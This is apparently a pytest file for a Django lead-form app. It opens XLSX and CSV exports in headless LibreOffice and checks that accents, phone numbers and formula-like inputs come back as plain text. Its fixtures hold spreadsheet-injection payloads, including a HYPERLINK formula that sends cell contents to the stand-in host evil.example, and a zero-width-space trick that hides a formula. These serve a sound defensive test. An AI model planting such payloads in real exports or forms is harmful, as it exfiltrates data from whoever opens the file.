"""The exports opened in a real spreadsheet program: Debian's LibreOffice Calc, headless.

Each export is converted by ``soffice --convert-to xlsx`` (LibreOffice reads the
file as a person opening it would, then saves what it understood) and every
cell is read back: accents intact, no formula (a formula would come back as a
formula cell, or as its result), phone numbers with their ``+`` and leading zeros.

Skipped locally when ``soffice`` is missing; in CI (``CI=true``) that is a
failure: ``.ci/run`` installs ``libreoffice-calc``.
"""

import datetime
import shutil
import subprocess

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from lead_forms.models import AppointmentSubmission
from tests.conftest import IN_CI
from tests.lead_forms.conftest import make_submission

INDEX = "lead_forms_appointmentsubmission_modeladmin_index"
# The CSV import options a person confirms in LibreOffice's import dialog (which headless
# conversion skips): comma-separated, double quotes, UTF-8 (character set 76), from row 1.
CSV_IMPORT = "CSV:44,34,76,1"

pytestmark = pytest.mark.django_db


@pytest.fixture(scope="module")
def soffice():
    path = shutil.which("soffice") or shutil.which("libreoffice")
    if path is None:
        if IN_CI:
            pytest.fail("The spreadsheet round trip needs LibreOffice: apt-get install libreoffice-calc")
        pytest.skip("LibreOffice (soffice) is not installed: apt-get install libreoffice-calc")
    return path


def open_in_libreoffice(soffice, tmp_path, name, content, infilter=None):
    """``content`` saved as ``name``, opened by LibreOffice and saved again as XLSX: the sheet it read."""
    source = tmp_path / name
    source.write_bytes(content)
    out = tmp_path / "out"
    command = [soffice, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless"]
    if infilter:
        command.append(f"--infilter={infilter}")
    command += ["--convert-to", "xlsx", "--outdir", str(out), str(source)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)  # noqa: S603
    return load_workbook(out / (source.stem + ".xlsx")).active


ATTACK = '=HYPERLINK("http://evil.example/?"&A1;"Click here")'


@pytest.fixture
def requests_to_export(form_page):
    abroad = make_submission(
        form_page,
        first_name="Élodie",
        last_name="Çağlar-Nuñez",
        city="São Paulo",
        state="=1+1",
        phone="+551155550101",
        your_comments=ATTACK,
    )
    local = make_submission(
        form_page,
        first_name="Zoë",
        last_name="\u200b=2+3",  # a zero-width space hiding the formula from a first-character check
        city="+1+1",
        state="0042",
        phone="02175550199",
        your_comments="@SUM(1;2)",
    )
    when = datetime.datetime(2026, 3, 1, 14, 5, tzinfo=datetime.UTC)
    AppointmentSubmission.objects.filter(pk__in=[abroad.pk, local.pk]).update(submit_time=when)
    return abroad, local


def download(fmt):
    from tests.factories import UserFactory

    client = Client()
    client.force_login(UserFactory(username="lo-root", is_superuser=True, is_staff=True))
    response = client.get(reverse(INDEX), {"export": fmt})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def rows_by_first_name(sheet):
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    header = rows[0]
    return {row[header.index("First name")]: dict(zip(header, row, strict=False)) for row in rows[1:]}


def assert_nothing_evaluated(sheet):
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert not formulas, f"LibreOffice read formulas in {formulas}"


def test_xlsx_opens_in_libreoffice_with_every_value_as_text(soffice, tmp_path, requests_to_export):
    sheet = open_in_libreoffice(soffice, tmp_path, "requests.xlsx", download("xlsx"))

    assert_nothing_evaluated(sheet)
    rows = rows_by_first_name(sheet)
    assert set(rows) == {"Élodie", "Zoë"}
    elodie, zoe = rows["Élodie"], rows["Zoë"]
    assert elodie["Last name"] == "Çağlar-Nuñez" and elodie["City"] == "São Paulo"
    assert elodie["State"] == "=1+1" and elodie["Your comments"] == ATTACK  # the text, not its result
    assert zoe["Last name"] == "\u200b=2+3" and zoe["City"] == "+1+1" and zoe["Your comments"] == "@SUM(1;2)"
    assert zoe["State"] == "0042"
    assert elodie["Phone"] == "+55 11 5555-0101"
    assert zoe["Phone"] == "021 755 501 99"  # not a number: the leading zero stays
    assert elodie["Received"] == "2026-03-01 09:05:00"  # the clinic's time, as text
    for row in rows.values():
        assert all(value is None or isinstance(value, str) for value in row.values()), row


def test_csv_opens_in_libreoffice_with_formulas_as_text(soffice, tmp_path, requests_to_export):
    sheet = open_in_libreoffice(soffice, tmp_path, "requests.csv", download("csv"), infilter=CSV_IMPORT)

    assert_nothing_evaluated(sheet)
    rows = rows_by_first_name(sheet)
    assert set(rows) == {"Élodie", "Zoë"}
    elodie, zoe = rows["Élodie"], rows["Zoë"]
    assert elodie["Last name"] == "Çağlar-Nuñez" and elodie["City"] == "São Paulo"
    # A CSV has no text cells: what a spreadsheet could run keeps one visible apostrophe.
    assert elodie["State"] == "'=1+1" and elodie["Your comments"] == "'" + ATTACK
    assert (
        zoe["Last name"] == "'\u200b=2+3" and zoe["City"] == "'+1+1" and zoe["Your comments"] == "'@SUM(1;2)"
    )
    assert elodie["Phone"] == "'+55 11 5555-0101"  # the + is kept, as text
    assert zoe["Phone"] == "021 755 501 99"  # not a number: the leading zero stays
    assert isinstance(elodie["Reference"], str) and elodie["Reference"].startswith("AR-")
